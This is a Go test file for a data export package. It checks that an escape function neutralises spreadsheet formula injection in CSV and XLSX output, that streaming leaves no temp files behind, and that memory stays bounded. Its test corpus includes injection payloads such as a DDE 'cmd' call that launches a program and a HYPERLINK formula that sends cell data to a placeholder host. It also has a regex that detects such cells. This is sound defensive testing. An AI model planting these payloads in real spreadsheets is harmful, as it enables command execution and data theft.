package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"os"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"adalid"
	"adalid/collectors/file"
	"adalid/internal/export"
)

// corpus are texts that spreadsheets run, or have run.
var corpus = []string{
	`=1+1`, `+1`, `-1`, `@SUM(A1)`, "\t=1", "\r=1", "\n=1", ` =1`, "  =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u2028=1", "\u202e=1", "\x01=1", `"=1"`, `'=1`, `''=1`, `'"'=1`, "“=1”", `＝1`, `＋1`, `－1`, `＠x`, "﹦1", "−1",
	`=cmd|' /C calc'!A0`, `=HYPERLINK("http://x.example?"&A1)`, `=IMPORTXML("http://x.example")`, `-2+3+cmd|' /C calc'!A0`, `@handle hello`, "a\n=1", "a,=1", `a";=1`, "=\n=", "\t", "\n", "-", "--", "=", "'", "''", "'x", "' =", "x", "", " ", `\=1`, `{=1}`, "1e5", "-1.5", "NaN",
	"one\r\ntwo", "three\rfour", `she said "=1"`, "<<<<<<< HEAD", "text,created_at\n1,2026-01-01", strings.Repeat("=", 300),
}

// dangerous says what a spreadsheet could make of a cell, in a way of its own.
var dangerous = regexp.MustCompile("^[\\s\\p{Z}\\p{Cc}\\p{Cf}\"“”„«»]*[=+\\-@＝＋－＠﹦﹢﹣﹫−]|^[\\s\\p{Z}\\p{Cc}\\p{Cf}\"]*[\t\r\n]")

var number = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?(e[+-]?[0-9]+)?$`)

func TestEscapeCanBeTakenBack(t *testing.T) {
	check := func(t interface{ Fatalf(string, ...any) }, text string) {
		cell := file.Escape(text)
		if dangerous.MatchString(cell) {
			t.Fatalf("%q is written as %q", text, cell)
		}
		if back := file.Unescape(cell); back != text {
			t.Fatalf("%q is written as %q and read as %q", text, cell, back)
		}
	}
	for _, text := range corpus {
		check(t, text)
	}
	piece := rapid.OneOf(rapid.SampledFrom(corpus), rapid.String(), rapid.StringOf(rapid.RuneFrom([]rune("'\"=+-@ \t\r\n,;＝＠\ufeff“a1"))))
	rapid.Check(t, func(t *rapid.T) { check(t, strings.Join(rapid.SliceOfN(piece, 1, 3).Draw(t, "text"), "")) })
}

func TestNoCellBeginsLikeAFormula(t *testing.T) {
	columns := []string{"text", "count", "share", "yes", "list", "at"}
	row := func(text string) []any {
		n, share := int64(-5), -0.25
		return []any{text, &n, share, true, []string{text, "b"}, time.Unix(1e9, 0)}
	}
	var out bytes.Buffer
	w, err := export.New(&out, export.Options{Format: export.CSV, Columns: columns})
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range corpus {
		if err := w.Row(row(text)...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil || len(rows) != len(corpus)+1 {
		t.Fatal(len(rows), err)
	}
	for i, cells := range rows[1:] {
		for j, cell := range cells {
			if dangerous.MatchString(cell) && (j == 0 || !number.MatchString(cell)) {
				t.Errorf("%q gives the cell %q", corpus[i], cell)
			}
		}
		if cells[1] != "-5" || cells[2] != "-0.25" || cells[3] != "true" || cells[5] != "2001-09-09T01:46:40Z" {
			t.Error("numbers, flags and times are not as they are:", cells)
		}
	}
}

func TestWorkbook(t *testing.T) {
	temp := t.TempDir()
	var out bytes.Buffer
	w, err := export.New(&out, export.Options{Format: export.XLSX, Columns: []string{"text", "n", "none"}, Sheet: "mentions", TempDir: temp})
	if err != nil {
		t.Fatal(err)
	}
	long := strings.Repeat("=é🙂", 20_000)
	for _, text := range append(corpus, long) {
		if err := w.Row(text, -1.5, (*int64)(nil)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("mentions", excelize.Options{RawCellValue: true})
	if err != nil || len(rows) != len(corpus)+2 {
		t.Fatal(len(rows), err)
	}
	for i, text := range corpus {
		cell := rows[i+1][0]
		if dangerous.MatchString(cell) {
			t.Errorf("%q gives the cell %q", text, cell)
		}
		if !strings.ContainsFunc(text, func(r rune) bool { return unicode.IsControl(r) }) && file.Unescape(cell) != text {
			t.Errorf("%q is read as %q", text, cell)
		}
		if formula, err := f.GetCellFormula("mentions", "A2"); formula != "" || err != nil {
			t.Error(formula, err)
		}
	}
	if cell := rows[len(rows)-1][0]; !strings.HasSuffix(cell, "…") || !utf8.ValidString(cell) {
		t.Error("a text that is too long for a cell does not end in …")
	}
	if left, _ := os.ReadDir(temp); len(left) != 0 {
		t.Error("left behind:", left)
	}
}

// full takes so many bytes and no more, like a client that goes away.
type full int

func (f *full) Write(b []byte) (int, error) {
	if *f -= full(len(b)); *f < 0 {
		return 0, errors.New("gone")
	}
	return len(b), nil
}

func TestNothingIsLeftBehind(t *testing.T) {
	for _, room := range []full{0, 100, 100_000} {
		temp := t.TempDir()
		w, err := export.New(&room, export.Options{Format: export.XLSX, Columns: []string{"text"}, TempDir: temp})
		if err != nil {
			t.Fatal(err)
		}
		for range 40_000 { // more than the library keeps in memory
			if err := w.Row(strings.Repeat("x", 1000)); err != nil {
				t.Fatal(err)
			}
		}
		if runtime.GOOS != "windows" {
			entries, err := os.ReadDir(temp)
			if err != nil || len(entries) != 1 {
				t.Fatal(entries, err)
			}
			if files, _ := os.ReadDir(temp + "/" + entries[0].Name()); len(files) != 0 {
				t.Error("rows lie on disk under a name:", files)
			}
		}
		if err := w.Close(); err == nil {
			t.Error("nobody is told that the client is gone")
		}
		if left, _ := os.ReadDir(temp); len(left) != 0 {
			t.Error("left behind:", left)
		}
	}
	_, err := export.New(io.Discard, export.Options{Format: export.XLSX, TempDir: t.TempDir() + "/none"})
	if adalid.CodeOf(err) != adalid.Unavailable {
		t.Error(err)
	}
}

func TestJSONLines(t *testing.T) {
	var out bytes.Buffer
	w, err := export.New(&out, export.Options{Format: export.JSONL, Columns: []string{"text", "n", "list", "at"}})
	if err != nil {
		t.Fatal(err)
	}
	if err := errors.Join(w.Row("=1\u2028", (*int64)(nil), []string(nil), time.Time{}), w.Row("", 5, []string{}, time.Unix(0, 0)), w.Close()); err != nil {
		t.Fatal(err)
	}
	var first map[string]any
	line, rest, _ := strings.Cut(out.String(), "\n")
	if err := json.Unmarshal([]byte(line), &first); err != nil || first["text"] != "=1\u2028" || first["n"] != nil || first["list"] != nil {
		t.Error(line, err)
	}
	if rest != `{"text":"","n":5,"list":[],"at":"1970-01-01T00:00:00Z"}`+"\n" {
		t.Error(rest)
	}
	if _, err := export.ParseFormat("xls"); adalid.CodeOf(err) != adalid.Invalid {
		t.Error(err)
	}
}

// TestMemoryDoesNotGrow: what a table takes does not depend on its length.
func TestMemoryDoesNotGrow(t *testing.T) {
	for format, spare := range map[export.Format]uint64{export.CSV: 2 << 20, export.XLSX: 36 << 20, export.JSONL: 2 << 20} {
		w, err := export.New(io.Discard, export.Options{Format: format, Columns: []string{"text", "n"}, TempDir: t.TempDir()})
		if err != nil {
			t.Fatal(err)
		}
		text := strings.Repeat("=some words ", 30)
		used := func(rows int) uint64 {
			for range rows {
				if err := w.Row(text, -1); err != nil {
					t.Fatal(err)
				}
			}
			runtime.GC()
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			return m.HeapAlloc
		}
		early := used(60_000) // 21 MB, more than the library keeps in memory
		if late := used(140_000); late > early+spare {
			t.Errorf("%s: %d bytes after 60,000 rows, %d after 200,000", format, early, late)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
	}
}
